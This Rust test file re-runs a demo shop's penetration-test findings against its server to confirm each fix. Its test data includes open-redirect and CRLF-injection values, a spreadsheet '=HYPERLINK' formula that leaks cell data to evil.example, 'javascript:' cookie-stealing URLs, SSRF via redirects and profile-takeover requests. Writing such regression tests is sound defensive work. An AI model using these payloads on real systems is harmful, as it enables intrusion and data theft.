//! The holes a penetration test of the demo shop found (issue #18), each tried again from the
//! attacker's side against a real server: what the public write key, a stranger's browser or a
//! crafted link can do, and that it now does no harm.

use reqwest::Method;
use serde_json::{Value, json};

use crate::common::{TestApp, WRITE_KEY, console_cookie, csrf_of, page, signed, urlencode};

fn no_redirects() -> reqwest::Client {
    reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap()
}

/// Finding 4: `next` sent a signed-in person to another site (browsers drop the tab in
/// `/%09/evil.example` and go to `//evil.example`), and a line break in it answered 500.
#[tokio::test]
async fn next_never_leaves_the_site_and_never_fails() {
    let app = TestApp::spawn().await;
    let client = no_redirects();
    for next in [
        "/%09/evil.example",
        "/%0a/evil.example",
        "/%20/evil.example",
        "//evil.example",
        "/%5Cevil.example",
        "https://evil.example",
        "%0d%0aSet-Cookie:%20x=1",
        "/%E2%80%8B/evil.example",
    ] {
        let res = client
            .get(app.url(&format!("/lang/en?next={next}")))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 303, "next={next}");
        let to = res.headers()["location"].to_str().unwrap();
        assert!(
            !to.contains("evil") && !to.starts_with("//"),
            "next={next} went to {to}"
        );
        assert!(
            res.headers()
                .get("set-cookie")
                .is_some_and(|c| !c.to_str().unwrap().contains("x=1"))
        );
    }
    // A path of the site stays as it was.
    let res = client
        .get(app.url("/lang/en?next=/customers%3Fq%3Dkim"))
        .send()
        .await
        .unwrap();
    assert_eq!(res.headers()["location"], "/customers?q=kim");

    // After signing in, too.
    let login_page = client
        .get(app.url("/login"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let csrf = csrf_of(&login_page);
    let res = client
        .post(app.url("/login"))
        .header("cookie", format!("dangol_login_csrf={csrf}"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(format!(
            "name=admin&password=test-admin-password&csrf={csrf}&next={}",
            urlencode("/\t/evil.example")
        ))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 303);
    assert_eq!(res.headers()["location"], "/");
}

/// Finding 5: a 500 KB batch of 250,000 invalid items answered a 31.7 MB error body and held
/// ~90 MB per request. A request now holds at most 1,000 messages, and an answer lists the first
/// 100 rejected ones and counts the rest; the valid ones are stored.
#[tokio::test]
async fn a_batch_cannot_make_the_server_write_or_hold_much() {
    let app = TestApp::spawn().await;
    let items: Vec<Value> = (0..250_000).map(|_| json!(0)).collect();
    let res = app.send("/v1/batch", json!({ "batch": items })).await;
    assert_eq!(res.status(), 413);
    let body = res.bytes().await.unwrap();
    assert!(body.len() < 1_000, "{} bytes", body.len());
    let e: Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(e["error"]["field"], "batch");

    // 300 bad messages and one good one: the good one is stored, 100 are listed, 300 counted.
    let mut items: Vec<Value> = (0..300)
        .map(|i| json!({"type": "track", "userId": format!("u{i}")}))
        .collect();
    items.push(json!({"type": "track", "userId": "good", "event": "Signed Up"}));
    let res = app.send("/v1/batch", json!({ "batch": items })).await;
    assert_eq!(res.status(), 400);
    let e: Value = res.json().await.unwrap();
    assert_eq!(e["accepted"], 1);
    assert_eq!(e["rejected_count"], 300);
    assert_eq!(e["rejected"].as_array().unwrap().len(), 100);
    assert_eq!(e["rejected"][0]["field"], "batch[0].event");
    assert_eq!(app.customer("user_id", "good").await["stats"]["events"], 1);
}

/// Finding 7: a name or user id anyone can send with the write key came out raw in the CSV files
/// staff open in a spreadsheet, where `=HYPERLINK(…)` is a formula.
#[tokio::test]
async fn csv_exports_do_not_carry_formulas() {
    let app = TestApp::spawn().await;
    let evil = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")";
    let res = app
        .send(
            "/v1/identify",
            json!({"userId": evil, "traits": {"name": "@SUM(1+1)", "email": "-2+3@example.com"}}),
        )
        .await;
    assert_eq!(res.status(), 200);
    let id = app.customer("user_id", evil).await["id"].as_u64().unwrap();

    // A segment's members.
    let seg: Value = app
        .admin(Method::POST, "/segments")
        .json(&json!({"name": "everyone", "rule": {"attr": "orders_count", "op": ">=", "value": 0}, "live": true}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    // The console's export of the members as they are now (the API's members.csv writes the same
    // file, from the nightly membership).
    let cookie = console_cookie(&app, "admin", "test-admin-password").await;
    let (status, csv) = page(&app, &cookie, &format!("/segments/{}/members.csv?date=now", seg["id"])).await;
    assert_eq!(status, 200, "{csv}");
    let row = csv.lines().nth(1).unwrap_or_else(|| panic!("{csv}"));
    assert!(row.contains("\"'=HYPERLINK("), "{row}");
    assert!(
        row.contains(",'@SUM(1+1),") && row.contains(",'-2+3@example.com,"),
        "{row}"
    );

    // A coupon's codes, through the console.
    let coupon: Value = app
        .admin(Method::POST, "/coupons")
        .json(&json!({"name": "c", "discount": {"type": "fixed", "amount": 1000}, "prefix": "C"}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let issued = app
        .admin(Method::POST, &format!("/coupons/{}/issue", coupon["id"]))
        .json(&json!({"customers": [id]}))
        .send()
        .await
        .unwrap();
    assert_eq!(issued.status(), 200, "{}", issued.text().await.unwrap());
    let (status, csv) = page(&app, &cookie, &format!("/coupons/{}/codes.csv", coupon["id"])).await;
    assert_eq!(status, 200, "{csv}");
    let row = csv.lines().nth(1).unwrap_or_else(|| panic!("{csv}"));
    assert!(
        row.contains("\"'=HYPERLINK(") && row.contains(",'-2+3@example.com,"),
        "{row}"
    );
}

/// Finding 9: console pages could be framed (clickjacking), sniffed, and leaked full URLs in
/// Referer; cookies lacked `Secure` behind HTTPS.
#[tokio::test]
async fn console_pages_cannot_be_framed_and_cookies_stay_on_https() {
    let app = TestApp::spawn().await;
    let client = no_redirects();
    for path in ["/login", "/", "/customers", "/static/app.css"] {
        let res = client.get(app.url(path)).send().await.unwrap();
        let h = res.headers();
        assert_eq!(h["x-frame-options"], "DENY", "{path}");
        assert_eq!(h["x-content-type-options"], "nosniff", "{path}");
        assert_eq!(h["referrer-policy"], "same-origin", "{path}");
        let csp = h["content-security-policy"].to_str().unwrap();
        assert!(
            csp.contains("frame-ancestors 'none'") && csp.contains("default-src 'self'"),
            "{path}: {csp}"
        );
    }
    // Plain HTTP on loopback: no Secure (the browser would drop the cookie); behind a TLS proxy: Secure.
    let plain = client.get(app.url("/login")).send().await.unwrap();
    assert!(!plain.headers()["set-cookie"].to_str().unwrap().contains("Secure"));
    let https = client
        .get(app.url("/login"))
        .header("x-forwarded-proto", "https")
        .send()
        .await
        .unwrap();
    for c in https.headers().get_all("set-cookie") {
        assert!(c.to_str().unwrap().ends_with("; Secure"), "{c:?}");
    }
    // Or when the shop says it is reached over https.
    let res = app
        .admin(Method::PUT, "/settings/messaging")
        .json(&json!({"public_url": "https://dangol.shop.example"}))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200, "{}", res.text().await.unwrap());
    let res = client.get(app.url("/lang/en?next=/")).send().await.unwrap();
    assert!(res.headers()["set-cookie"].to_str().unwrap().ends_with("; Secure"));
}

/// Finding 6: sign-in stored a failure row for any typed name, unbounded and never pruned (20
/// names of 1.5 MB grew the store by 40 MB), and five wrong passwords from anyone locked the
/// owner out for 15 minutes, again and again.
#[tokio::test]
async fn a_stranger_can_neither_grow_the_store_nor_lock_the_owner_out() {
    let app = TestApp::spawn().await;
    let login_from = |address: &'static str, name: String, password: &'static str| {
        let url = app.url("/login");
        async move {
            reqwest::Client::builder()
                .redirect(reqwest::redirect::Policy::none())
                .local_address(address.parse::<std::net::IpAddr>().unwrap())
                .build()
                .unwrap()
                .post(url)
                .header("cookie", "dangol_login_csrf=t")
                .header("content-type", "application/x-www-form-urlencoded")
                .body(format!("name={}&password={password}&csrf=t", urlencode(&name)))
                .send()
                .await
                .unwrap()
        }
    };
    let size = || std::fs::metadata(app.dir.join("dangol.redb")).unwrap().len();
    let before = size();
    for i in 0..20 {
        let res = login_from("127.0.0.2", format!("{i}{}", "x".repeat(1_500_000)), "guess").await;
        assert_eq!(res.status(), 400);
    }
    for i in 0..50 {
        let res = login_from("127.0.0.2", format!("nobody-{i}"), "guess").await;
        assert_eq!(res.status(), 401);
    }
    assert!(
        size() < before + 1_000_000,
        "the store grew from {before} to {} bytes",
        size()
    );

    // Five wrong passwords from another address lock that address out, not the owner.
    for _ in 0..5 {
        assert_eq!(login_from("127.0.0.2", "admin".into(), "wrong").await.status(), 401);
    }
    let locked = login_from("127.0.0.2", "admin".into(), "test-admin-password").await;
    assert_eq!(
        locked.status(),
        401,
        "the guessing address is locked, even with the password"
    );
    let owner = login_from("127.0.0.1", "admin".into(), "test-admin-password").await;
    assert_eq!(owner.status(), 303, "the owner signs in from their own address");
}

/// A tiny HTTP server on loopback that answers every request with `answer` and keeps each
/// request's head (the attacker's collector, an internal page, a redirecting "provider").
async fn http_server(answer: String) -> (String, std::sync::Arc<std::sync::Mutex<Vec<String>>>) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let seen: std::sync::Arc<std::sync::Mutex<Vec<String>>> = Default::default();
    let keep = seen.clone();
    tokio::spawn(async move {
        while let Ok((mut conn, _)) = listener.accept().await {
            let (answer, keep) = (answer.clone(), keep.clone());
            tokio::spawn(async move {
                let mut buf = vec![0u8; 64 * 1024];
                let n = conn.read(&mut buf).await.unwrap_or(0);
                keep.lock()
                    .unwrap()
                    .push(String::from_utf8_lossy(&buf[..n]).into_owned());
                let _ = conn.write_all(answer.as_bytes()).await;
            });
        }
    });
    (base, seen)
}

fn ok(body: &str) -> String {
    format!(
        "HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
        body.len()
    )
}

/// Finding 8 (with an API key or as an owner): the test send showed the provider's whole answer and
/// followed its redirects (a 303 read any local page); changing `sms.url` without the auth value
/// sent the stored token to the new host; SMTP kept its password on a host change.
#[tokio::test]
async fn a_provider_url_cannot_read_local_pages_or_take_the_stored_secret() {
    let app = TestApp::spawn().await;
    let (internal, _) = http_server(ok("SECRET-INTERNAL-PAGE")).await;
    let (redirector, _) = http_server(format!(
        "HTTP/1.1 303 See Other\r\nlocation: {internal}/admin\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
    ))
    .await;
    let (collector, seen) = http_server(ok("{\"ok\":true}")).await;
    let put = |settings: Value| {
        let req = app.admin(Method::PUT, "/settings/messaging").json(&settings);
        async move { req.send().await.unwrap() }
    };
    let sms = |url: &str, auth: Option<&str>| {
        let mut p = json!({"url": url, "auth_header": "Authorization", "from": "0215880000"});
        if let Some(a) = auth {
            p["auth_value"] = json!(a);
        }
        json!({"sender_name": "단골", "sender_contact": "02-1588-0000", "sms": p,
               "smtp": {"host": "smtp.shop.example", "from_email": "shop@shop.example", "username": "shop", "password": "smtp-s3cret"}})
    };
    // The shop's real settings, with its secrets.
    assert_eq!(
        put(sms("https://sms.provider.example/send", Some("Bearer s3cret")))
            .await
            .status(),
        200
    );
    // Someone moves the provider to their own server and leaves the secret out.
    let mut moved = sms(&format!("{collector}/collect"), None);
    moved["smtp"] = json!({"host": "smtp.evil.example", "from_email": "shop@shop.example", "username": "shop"});
    let res = put(moved).await;
    assert_eq!(res.status(), 200);
    let shown: Value = res.json().await.unwrap();
    assert_eq!(
        shown["sms"]["auth_value_set"], false,
        "the token stays with the host it was given for"
    );
    assert_eq!(
        shown["smtp"]["password_set"], false,
        "the password stays with the host it was given for"
    );

    app.send(
        "/v1/identify",
        json!({"userId": "m1", "traits": {"phone": "01012345678", "sms_consent": true}}),
    )
    .await;
    let customer = app.customer("user_id", "m1").await["id"].as_u64().unwrap();
    let campaign: Value = app
        .admin(Method::POST, "/campaigns")
        .json(&json!({"name": "t", "channel": "sms", "purpose": "informational", "when": {"kind": "once"}, "content": {"text": "안녕하세요"}}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let test = |to: &'static str| {
        let req = app
            .admin(Method::POST, &format!("/campaigns/{}/test", campaign["id"]))
            .json(&json!({"to": to, "customer_id": customer}));
        async move { req.send().await.unwrap() }
    };
    let res = test("01012345678").await;
    assert_eq!(res.status(), 200, "{}", res.text().await.unwrap());
    let got = seen.lock().unwrap().join("\n").to_lowercase();
    assert!(got.contains("post /collect"), "{got}");
    assert!(
        !got.contains("s3cret") && !got.contains("authorization"),
        "the stored token went out: {got}"
    );

    // A provider that redirects to a local page: not followed, and nothing of that page is shown.
    assert_eq!(put(sms(&format!("{redirector}/send"), None)).await.status(), 200);
    let res = test("01012345678").await;
    let answer = res.text().await.unwrap();
    assert!(answer.contains("303"), "{answer}");
    assert!(!answer.contains("SECRET-INTERNAL-PAGE"), "{answer}");

    // With --deny-private-targets, a provider on this machine is refused by name.
    let tmp = tempfile::tempdir().unwrap();
    let mut config = dangol::config::Config::for_tests(tmp.path());
    config.deny_private_targets = true;
    let mut strict = TestApp::spawn_with(config).await;
    strict.keep(tmp);
    for url in [
        format!("{collector}/collect"),
        "http://localhost:9/x".into(),
        "http://[::1]/x".into(),
    ] {
        let res = strict
            .admin(Method::PUT, "/settings/messaging")
            .json(&sms(&url, Some("t")))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 400, "{url}");
        let e: Value = res.json().await.unwrap();
        assert_eq!(e["error"]["field"], "sms.url", "{e}");
    }
}

/// Finding 9 (templates): a campaign's template rendered without bound; nested loops held a
/// worker and the memory for as long as they ran.
#[tokio::test]
async fn a_template_cannot_run_or_grow_without_bound() {
    let app = TestApp::spawn().await;
    app.send(
        "/v1/identify",
        json!({"userId": "m1", "traits": {"email": "m1@example.com"}}),
    )
    .await;
    let customer = app.customer("user_id", "m1").await["id"].as_u64().unwrap();
    let line = "가".repeat(1_000);
    for (text, says) in [
        (
            "{% for a in range(1000) %}{% for b in range(1000) %}x{% endfor %}{% endfor %}".to_string(),
            "steps",
        ),
        (
            format!("{{% for a in range(600) %}}{line}{{% endfor %}}"),
            "longer than",
        ),
    ] {
        let campaign: Value = app
            .admin(Method::POST, "/campaigns")
            .json(
                &json!({"name": "t", "channel": "email", "purpose": "informational", "when": {"kind": "once"},
                          "content": {"subject": "s", "text": text}}),
            )
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        let started = std::time::Instant::now();
        let res = app
            .admin(Method::POST, &format!("/campaigns/{}/preview", campaign["id"]))
            .json(&json!({"customer_id": customer}))
            .send()
            .await
            .unwrap();
        assert!(
            started.elapsed() < std::time::Duration::from_secs(5),
            "{:?}",
            started.elapsed()
        );
        let status = res.status();
        let body = res.text().await.unwrap();
        assert_eq!(status, 400, "{body}");
        assert!(body.contains(says), "{body}");
    }
}

/// Finding 9 (keys): any admin key an integration was given could mint more keys and create
/// owners. Now only the master key manages who may ask, and a `read` key only reads.
#[tokio::test]
async fn an_integration_key_cannot_mint_keys_or_owners() {
    let app = TestApp::spawn().await;
    let make = |scope: Option<&str>| {
        let mut body = json!({"name": "integration", "kind": "admin"});
        if let Some(s) = scope {
            body["scope"] = json!(s);
        }
        let req = app.admin(Method::POST, "/keys").json(&body);
        async move {
            let made: Value = req.send().await.unwrap().json().await.unwrap();
            (
                made["key"].as_str().unwrap().to_string(),
                made["scope"].as_str().unwrap().to_string(),
            )
        }
    };
    let with = |key: &str, method: Method, path: &str, body: Value| {
        app.client
            .request(method, app.url(&format!("/api/v1{path}")))
            .bearer_auth(key)
            .json(&body)
            .send()
    };
    let (full, scope) = make(None).await;
    assert_eq!(scope, "full");
    for (method, path, body) in [
        (Method::POST, "/keys", json!({"name": "more", "kind": "admin"})),
        (Method::GET, "/keys", json!({})),
        (
            Method::POST,
            "/users",
            json!({"name": "mallory", "password": "long enough password", "role": "owner"}),
        ),
        (
            Method::PUT,
            "/settings/messaging",
            json!({"public_url": "https://evil.example"}),
        ),
    ] {
        let res = with(&full, method.clone(), path, body).await.unwrap();
        assert_eq!(res.status(), 403, "{method} {path}");
    }
    // Both read; only the full key writes.
    let (read, scope) = make(Some("read")).await;
    assert_eq!(scope, "read");
    let segment = json!({"name": "s", "rule": {"attr": "orders_count", "op": ">=", "value": 1}});
    for (key, writes) in [(&full, 201), (&read, 403)] {
        let reads = with(key, Method::GET, "/customers", json!({})).await.unwrap();
        assert_eq!(reads.status(), 200);
        let res = with(key, Method::POST, "/segments", segment.clone()).await.unwrap();
        assert_eq!(res.status(), writes);
    }
    // The master key still manages keys and users.
    let res = app
        .admin(Method::POST, "/users")
        .json(&json!({"name": "staff", "password": "long enough password", "role": "viewer"}))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 201, "{}", res.text().await.unwrap());
}

/// Finding 3: the first event naming an unknown product made a visible, in-stock product with the
/// event's name, url, image and price, and fake views in one batch made it the storefront's most
/// viewed; `javascript:` urls reached storefront cards. Now such a product is only an id and a
/// name, never recommended until the catalogue confirms it, and only web addresses are shown.
#[tokio::test]
async fn events_cannot_put_a_product_in_front_of_shoppers() {
    let app = TestApp::spawn().await;
    let res = app
        .admin(Method::POST, "/products")
        .json(&json!([
            {"id": "real", "name": "진짜 상품", "price": 10000, "url": "https://shop.example/p/real"},
            {"id": "sneaky", "name": "링크가 이상한 상품", "price": 10000, "url": "javascript:alert(1)", "image_url": "data:text/html,x"}
        ]))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    let view = |id: &str, name: &str, url: &str, n: usize| {
        let batch: Vec<Value> = (0..n)
            .map(|i| {
                json!({"type": "track", "anonymousId": format!("v{i}"), "event": "Product Viewed",
                            "properties": {"product_id": id, "name": name, "url": url, "image_url": url, "price": 1}})
            })
            .collect();
        app.send("/v1/batch", json!({ "batch": batch }))
    };
    assert_eq!(
        view("real", "진짜 상품", "https://shop.example/p/real", 10)
            .await
            .status(),
        200
    );
    assert_eq!(
        view("sneaky", "링크가 이상한 상품", "javascript:alert(1)", 5)
            .await
            .status(),
        200
    );
    let res = view(
        "evil",
        "FREE GIFT — claim at evil.example",
        "javascript:alert(document.cookie)",
        1_000,
    )
    .await;
    assert_eq!(res.status(), 200);

    let evil = app.get("/products/evil").await;
    assert_eq!(evil["name"], "FREE GIFT — claim at evil.example");
    assert!(
        evil["url"].is_null() && evil["image_url"].is_null() && evil["price"].is_null(),
        "{evil}"
    );

    let most_viewed = || {
        let req = app
            .client
            .get(app.url("/v1/recommendations?strategy=most_viewed&days=1"))
            .basic_auth(WRITE_KEY, Some(""));
        async move { req.send().await.unwrap().json::<Value>().await.unwrap() }
    };
    let list = most_viewed().await;
    let ids: Vec<&str> = list["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids.first(), Some(&"real"), "{list}");
    assert!(!ids.contains(&"evil"), "{list}");
    let sneaky = list["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["id"] == "sneaky")
        .expect("sneaky is listed");
    assert!(
        sneaky.get("url").is_none() && sneaky.get("image_url").is_none(),
        "{sneaky}"
    );

    // Once the shop confirms it, it is a product like any other.
    app.admin(Method::PUT, "/products/evil")
        .json(&json!({"name": "이벤트 상품", "url": "https://shop.example/p/evil"}))
        .send()
        .await
        .unwrap();
    let list = most_viewed().await;
    assert_eq!(list["items"][0]["id"], "evil", "{list}");
}

/// Finding 2: storefront reads trusted a bare `userId` (demo ids are sequential): anyone with the
/// write key read a member's purchases, and used up their coupon on a made-up order. Now a member
/// is answered only with the `userHash` the shop's server made for them.
#[tokio::test]
async fn a_bare_user_id_reads_nothing_and_redeems_nothing() {
    let app = TestApp::spawn().await;
    app.admin(Method::POST, "/products")
        .json(&json!([{"id": "p1", "name": "향수", "price": 50000}, {"id": "p2", "name": "캔들", "price": 20000}]))
        .send()
        .await
        .unwrap();
    app.send(
        "/v1/identify",
        json!({"userId": "member-7", "anonymousId": "browser-7", "traits": {"email": "m7@example.com"}}),
    )
    .await;
    app.send(
        "/v1/track",
        json!({"userId": "member-7", "event": "Order Completed",
               "properties": {"order_id": "o7", "total": 50000, "products": [{"product_id": "p1", "price": 50000, "quantity": 1}]}}),
    )
    .await;
    let recs = |query: String| {
        let req = app
            .client
            .get(app.url(&format!("/v1/recommendations?strategy=recently_purchased&{query}")))
            .basic_auth(WRITE_KEY, Some(""));
        async move {
            let v: Value = req.send().await.unwrap().json().await.unwrap();
            v["items"]
                .as_array()
                .unwrap()
                .iter()
                .map(|c| c["source"].as_str().unwrap().to_string())
                .collect::<Vec<_>>()
        }
    };
    let hash = dangol::auth::user_hash(crate::common::IDENTITY_SECRET, "member-7");
    assert!(
        recs(format!("userId=member-7&userHash={hash}"))
            .await
            .contains(&"recently_purchased".to_string())
    );
    for query in [
        "userId=member-7".to_string(),
        format!("userId=member-7&userHash={}", "0".repeat(64)),
        format!(
            "userId=member-7&userHash={}",
            dangol::auth::user_hash("another-secret", "member-7")
        ),
        "anonymousId=browser-7".to_string(),
    ] {
        let sources = recs(query.clone()).await;
        assert!(
            !sources.contains(&"recently_purchased".to_string()),
            "{query}: {sources:?}"
        );
    }

    // A coupon once per customer: a stranger cannot spend the member's use on a made-up order.
    app.admin(Method::POST, "/coupons")
        .json(&json!({"name": "첫 구매", "discount": {"type": "fixed", "amount": 3000}, "code": "ONCE", "per_customer_limit": 1}))
        .send()
        .await
        .unwrap();
    let redeem = |mut body: Value| {
        body["lines"] = json!([{"product_id": "p2", "price": 20000, "quantity": 1}]);
        let req = app.track("/v1/coupons/redeem").json(&body);
        async move { req.send().await.unwrap() }
    };
    let res = redeem(json!({"code": "ONCE", "userId": "member-7", "order_id": "fake-1"})).await;
    assert_eq!(res.status(), 404);
    assert_eq!(res.json::<Value>().await.unwrap()["error"]["field"], "userHash");
    let res = redeem(json!({"code": "ONCE", "anonymousId": "browser-7", "order_id": "fake-2"})).await;
    assert_eq!(res.status(), 404, "a member's browser id does not stand for the member");
    let res = redeem(json!({"code": "ONCE", "userId": "member-7", "userHash": hash, "order_id": "real-1"})).await;
    let answer: Value = res.json().await.unwrap();
    assert_eq!(answer["valid"], true, "the member's own use is still there: {answer}");
    // The shop's backend redeems with its server write key, which vouches for the user id.
    let res = app
        .client
        .post(app.url("/v1/coupons/redeem"))
        .basic_auth(app.server_key().await, Some(""))
        .json(&json!({"code": "ONCE", "userId": "member-7", "order_id": "real-1",
                      "lines": [{"product_id": "p2", "price": 20000, "quantity": 1}]}))
        .send()
        .await
        .unwrap();
    let answer: Value = res.json().await.unwrap();
    assert_eq!(
        answer["valid"], true,
        "the same order again answers as the first time: {answer}"
    );
}

/// Finding 1: with the public write key anyone could replace a member's email (their campaign
/// mail and unique coupon codes then went to the attacker), record an SMS consent they never
/// gave, replace their tags, link the attacker's browser to them, and merge two real customers
/// for good with `alias`. Now such claims are ignored, and the answer says which.
#[tokio::test]
async fn the_public_write_key_cannot_take_over_a_profile() {
    let app = TestApp::spawn().await;
    // What the shop knows: two members (from its backend) and the victim's own browser (joined by
    // a verified identify from the shop's page), and a guest who ordered.
    app.send_from_server(
        "/v1/identify",
        json!({"userId": "m-17", "traits": {"email": "victim@example.com", "phone": "010-1717-1717",
                                             "tags": ["regular"], "sms_consent": false}}),
    )
    .await;
    app.send(
        "/v1/identify",
        signed(json!({"userId": "m-17", "anonymousId": "victim-browser"})),
    )
    .await;
    app.send_from_server(
        "/v1/track",
        json!({"userId": "m-18", "event": "Order Completed", "properties": {"order_id": "o18", "total": 9000}}),
    )
    .await;
    let member = |id: &'static str| app.customer("user_id", id);
    let victim = member("m-17").await;
    let other = member("m-18").await;
    let unchanged = |c: &Value| {
        assert_eq!(c["id"], victim["id"]);
        assert_eq!(c["email"], "victim@example.com", "{c}");
        assert_eq!(c["phone"], "010-1717-1717", "{c}");
        assert_eq!(c["tags"], json!(["regular"]), "{c}");
        assert_eq!(c["sms_consent"]["granted"], false, "{c}");
        assert_eq!(c["identities"]["anonymous_ids"], json!(["victim-browser"]), "{c}");
    };
    let answer = |res: reqwest::Response| async move {
        assert_eq!(res.status(), 200);
        res.json::<Value>().await.unwrap()
    };

    // The takeover identify from the report.
    let takeover = json!({"userId": "m-17", "anonymousId": "attacker",
        "traits": {"email": "attacker@evil.example", "phone": "010-0000-0000", "sms_consent": true, "tags": ["vip"]}});
    let got = answer(app.send("/v1/identify", takeover.clone()).await).await;
    assert_eq!(
        got["ignored"],
        json!([
            "anonymousId",
            "traits.email",
            "traits.phone",
            "traits.tags",
            "traits.sms_consent"
        ])
    );
    unchanged(&member("m-17").await);
    // A made-up or another shop's hash is no better than none; in a batch, each item says so.
    for hash in ["0".repeat(64), dangol::auth::user_hash("another-secret", "m-17")] {
        let mut forged = takeover.clone();
        forged["userHash"] = hash.into();
        forged["type"] = "identify".into();
        let got = answer(
            app.send(
                "/v1/batch",
                json!({"batch": [{"type": "page", "anonymousId": "attacker"}, forged]}),
            )
            .await,
        )
        .await;
        assert_eq!(got["ignored"][0], "batch[1].anonymousId", "{got}");
        assert_eq!(got["ignored"].as_array().unwrap().len(), 5, "{got}");
        assert_eq!(got["ignored_count"], 5, "{got}");
    }
    unchanged(&member("m-17").await);
    // The attacker's browser is a visitor of its own, not the member.
    let attacker = app.customer("anonymous_id", "attacker").await;
    assert_ne!(attacker["id"], victim["id"]);
    assert_eq!(attacker["user_id"], Value::Null);

    // Orders naming the victim's email do not join the attacker's browser to them.
    let got = answer(
        app.send(
            "/v1/track",
            json!({"anonymousId": "attacker", "event": "Order Completed",
                   "properties": {"order_id": "evil-1", "total": 1, "email": "victim@example.com"}}),
        )
        .await,
    )
    .await;
    assert_eq!(got["ignored"], json!(["properties.email"]));
    assert_eq!(app.get("/orders/evil-1").await["customer_id"], attacker["id"]);
    unchanged(&member("m-17").await);

    // Whoever holds the member's browser id still cannot change what the member is reached by.
    let got = answer(
        app.send(
            "/v1/identify",
            json!({"anonymousId": "victim-browser", "traits": {"email": "attacker@evil.example", "kakao_consent": true}}),
        )
        .await,
    )
    .await;
    assert_eq!(got["ignored"], json!(["traits.email", "traits.kakao_consent"]));
    // Nor take that browser for a user id of their own.
    let got = answer(
        app.send(
            "/v1/identify",
            json!({"userId": "attacker-2", "anonymousId": "victim-browser"}),
        )
        .await,
    )
    .await;
    assert_eq!(got["ignored"], json!(["anonymousId"]));
    unchanged(&member("m-17").await);

    // `alias` merged two real customers for good; now it joins nobody who exists.
    for (previous, user) in [("m-18", "m-17"), ("m-17", "m-18"), ("victim-browser", "attacker-3")] {
        let got = answer(
            app.send("/v1/alias", json!({"previousId": previous, "userId": user}))
                .await,
        )
        .await;
        assert_eq!(got["ignored"], json!(["previousId"]), "{previous} → {user}");
    }
    unchanged(&member("m-17").await);
    assert_eq!(member("m-18").await["id"], other["id"]);
    assert_eq!(app.get("/orders/o18").await["customer_id"], other["id"]);
    assert_eq!(member("m-18").await["stats"]["orders_count"], 1);

    // What the public key may do: a new visitor becomes a new member on their own word.
    let got = answer(
        app.send(
            "/v1/identify",
            json!({"userId": "newbie", "anonymousId": "attacker", "traits": {"email": "newbie@example.com", "sms_consent": true}}),
        )
        .await,
    )
    .await;
    assert_eq!(got.get("ignored"), None, "{got}");
    let newbie = member("newbie").await;
    assert_eq!(
        newbie["id"], attacker["id"],
        "the browser's own profile became the member"
    );
    assert_eq!(newbie["sms_consent"]["granted"], true);

    // What the shop's server may do: with the member's `userHash`, or with the server write key.
    let got = answer(
        app.send(
            "/v1/identify",
            signed(json!({"userId": "m-17", "traits": {"email": "new-address@example.com"}})),
        )
        .await,
    )
    .await;
    assert_eq!(got.get("ignored"), None, "{got}");
    assert_eq!(member("m-17").await["email"], "new-address@example.com");
    let got = answer(
        app.send_from_server("/v1/identify", json!({"userId": "m-17", "traits": {"tags": ["vip"]}}))
            .await,
    )
    .await;
    assert_eq!(got.get("ignored"), None, "{got}");
    assert_eq!(member("m-17").await["tags"], json!(["vip"]));
}
